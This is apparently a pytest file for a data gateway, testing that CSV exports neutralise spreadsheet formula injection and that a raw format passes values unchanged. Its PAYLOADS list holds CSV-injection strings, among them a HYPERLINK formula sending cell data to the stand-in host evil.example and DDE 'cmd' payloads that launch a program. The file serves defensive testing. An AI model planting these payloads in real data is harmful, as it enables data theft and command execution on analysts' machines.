"""Issue 11, class 6: exports carry no active content.

The attacker controls a value in a partner's source (or is a steward whose source it
is) and waits for an analyst to open a CSV export in a spreadsheet: a cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return is evaluated as a formula. The
default CSV neutralises such cells (a leading ``'``, quoted); ``format=csv_raw`` gives
machine consumers the value unchanged.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterator

import pytest

from catalog.models import Source
from tests.gateway.demo_app import DemoGateway

DIBAO = "civil.dibao_recipients"
PAYROLL = "finance.payroll"
CASE = {"purpose": "supervision", "case_ref": "JW-2026-CSV"}
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _source_file(gw: DemoGateway, source_id: str) -> str:
    with gw.services.sessions() as session:
        source = session.get(Source, source_id)
        assert source is not None
        return str(source.settings["url"]).removeprefix("sqlite:///")


@pytest.fixture(scope="module")
def planted(deployment: DemoGateway) -> Iterator[DemoGateway]:
    """Formula payloads written into the civil and finance sources behind the gateway's
    back (as the partner department's own application would store them)."""
    gw = deployment
    with sqlite3.connect(_source_file(gw, "civil-db")) as conn:
        ids = [r[0] for r in conn.execute(
            "SELECT rowid FROM dibao_recipients WHERE region_code LIKE '430121%' "
            "AND status = 'suspended' LIMIT ?", (len(PAYLOADS),))]  # fmt: skip
        assert len(ids) == len(PAYLOADS)
        for rowid, payload in zip(ids, PAYLOADS, strict=True):
            conn.execute("UPDATE dibao_recipients SET status = ? WHERE rowid = ?",
                         (payload, rowid))  # fmt: skip
    with sqlite3.connect(_source_file(gw, "finance-db")) as conn:
        conn.execute("UPDATE payroll SET employer = ?", (PAYLOADS[0],))
    yield gw


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _assert_inert(content: bytes) -> None:
    for row in _cells(content):
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell
    # every neutralised cell is quoted in the bytes themselves
    assert b"\"'=HYPERLINK" in content


@pytest.mark.parametrize("bom", [False, True])
def test_query_csv_neutralises_formulas(planted: DemoGateway, bom: bool) -> None:
    body = {"fields": ["region_code", "status"], "limit": 5000, **CASE}
    resp = planted.query("alice", DIBAO, body, format="csv", bom=bom)
    assert resp.status_code == 200, resp.text
    _assert_inert(resp.content)
    statuses = {row[1] for row in _cells(resp.content)[1:]}
    assert {"'" + p for p in PAYLOADS} <= statuses


def test_query_csv_raw_gives_machine_consumers_the_values(planted: DemoGateway) -> None:
    body = {"fields": ["region_code", "status"], "limit": 5000, **CASE}
    resp = planted.query("alice", DIBAO, body, format="csv_raw")
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    statuses = {row[1] for row in _cells(resp.content)[1:]}
    assert set(PAYLOADS) <= statuses
    # the other formats were never affected
    rows = planted.query("alice", DIBAO, body).json()["rows"]
    assert set(PAYLOADS) <= {r["status"] for r in rows}


def test_comparison_csv_neutralises_formulas(planted: DemoGateway) -> None:
    body = {
        "left": {"dataset": PAYROLL, "key": "id_number", "fields": ["employer"]},
        "right": {"dataset": DIBAO, "key": "id_number", "fields": ["region_code"]},
        **CASE,
    }
    resp = planted.compare("dora", body, format="csv")
    assert resp.status_code == 200, resp.text
    rows = _cells(resp.content)
    assert len(rows) > 1, "the planted anomalies match"
    _assert_inert(resp.content)
    raw = planted.compare("dora", body, format="csv_raw")
    assert raw.status_code == 200, raw.text
    assert PAYLOADS[0] in {cell for row in _cells(raw.content) for cell in row}
